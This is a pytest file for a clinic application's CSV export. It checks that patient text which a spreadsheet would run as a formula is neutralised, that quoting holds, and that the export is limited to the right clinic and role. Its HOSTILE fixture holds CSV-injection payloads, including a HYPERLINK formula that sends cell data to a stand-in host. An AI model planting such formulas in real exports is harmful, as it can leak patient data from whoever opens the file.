"""T-39 CSV export: patient text that a spreadsheet would run as a formula is neutralised
with a leading quote, quotes and line breaks survive RFC 4180 quoting, and the file holds
exactly the administrator's clinic's visits (clinical staff get 403)."""

import csv
import io

import pytest

from backpain.patients.models import Patient
from backpain.visits.models import Plan, Visit
from tests.factories import TEST_PASSWORD, PatientFactory, VisitFactory

from .helpers import body, export_download

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
HOSTILE = {
    "family_name": '=HYPERLINK("http://x/?"&A1)',
    "given_name": "\uff0b1+1",  # full-width plus, read by Excel as "+"
    "mrn": " -2+3",
    "chief_complaint": "@SUM(A1)",
    "plan_notes": '\tleading tab, "quoted", and a\r\nline break',
}


@pytest.fixture
def hostile_visit(clinic, intake, physician):
    patient = PatientFactory(clinic=clinic, family_name=HOSTILE["family_name"],
                             given_name=HOSTILE["given_name"], mrn=HOSTILE["mrn"])
    visit = VisitFactory(patient=patient, created_by=intake, assigned_physician=physician,
                         chief_complaint=HOSTILE["chief_complaint"])
    Plan.objects.create(visit=visit, plan_notes=HOSTILE["plan_notes"], updated_by=physician)
    return visit


def export(client, **filters):
    response = export_download(client, "exports:csv",
                           {"status": "any", "password": TEST_PASSWORD, **filters})
    assert response.status_code == 200
    text = body(response).decode("utf-8")
    assert text.startswith("\ufeff")
    return response, list(csv.reader(io.StringIO(text[1:], newline="")))


def test_formula_cells_are_neutralised(administrator_client, hostile_visit):
    _response, rows = export(administrator_client)
    header, data = rows[0], rows[1:]
    assert len(data) == 1
    row = dict(zip(header, data[0], strict=True))
    for cell in data[0]:
        assert not cell.startswith(FORMULA_STARTS), cell
    assert row["patient.family_name"] == "'" + HOSTILE["family_name"]
    assert row["patient.given_name"] == "'" + HOSTILE["given_name"]
    assert row["patient.mrn"] == "'" + HOSTILE["mrn"]
    assert row["visit.chief_complaint"] == "'" + HOSTILE["chief_complaint"]
    # Quotes and the line break come back intact through the quoting.
    assert row["plan.plan_notes"] == "'" + HOSTILE["plan_notes"]


def test_rows_are_rfc_4180_lines(administrator_client, hostile_visit):
    response = export_download(administrator_client, "exports:csv", {"status": "any",
                                                                  "password": TEST_PASSWORD})
    raw = body(response).decode("utf-8")
    assert raw.endswith("\r\n")
    assert '""quoted""' in raw  # embedded quotes doubled inside a quoted cell


def test_the_row_count_is_the_clinics_visits(administrator_client, hostile_visit, visit,
                                             other_visit):
    response, rows = export(administrator_client)
    ours = Visit.objects.filter(patient__clinic=hostile_visit.patient.clinic).count()
    assert len(rows) - 1 == ours == int(response["X-Export-Row-Count"]) == 2
    assert other_visit.patient.family_name not in {cell for row in rows for cell in row}
    assert Patient.objects.count() == 3


@pytest.mark.parametrize("who", ["intake_client", "physician_client"])
def test_clinical_staff_cannot_export(request, who, hostile_visit):
    client = request.getfixturevalue(who)
    assert export_download(client, "exports:csv", {"status": "any"}).status_code == 403


def test_the_download_is_uncached_and_named_by_the_server(administrator_client,
                                                          hostile_visit):
    response, _rows = export(administrator_client)
    assert "no-store" in response["Cache-Control"]
    assert response["Content-Disposition"].startswith('attachment; filename="backpain-visits-')
    assert "HYPERLINK" not in response["Content-Disposition"]
